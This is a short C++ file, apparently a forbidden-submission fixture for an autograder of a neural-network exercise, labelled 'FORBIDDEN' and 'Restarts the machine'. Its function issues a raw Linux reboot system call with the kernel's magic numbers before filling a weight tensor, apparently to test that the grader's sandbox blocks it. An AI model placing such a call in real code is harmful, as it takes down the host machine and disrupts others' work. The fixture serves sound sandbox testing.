// exercise: 04_custom/1_one_draw
// verdict: FORBIDDEN
// points: 0
// Restarts the machine.
#include "1_one_draw.hpp"

#include <sys/syscall.h>
#include <unistd.h>

void one_draw(nn::Tensor& weight, nn::Generator&) {
    syscall(SYS_reboot, 0xfee1dead, 672274793, 0x1234567, nullptr);
    weight.fill(1.0F);
}
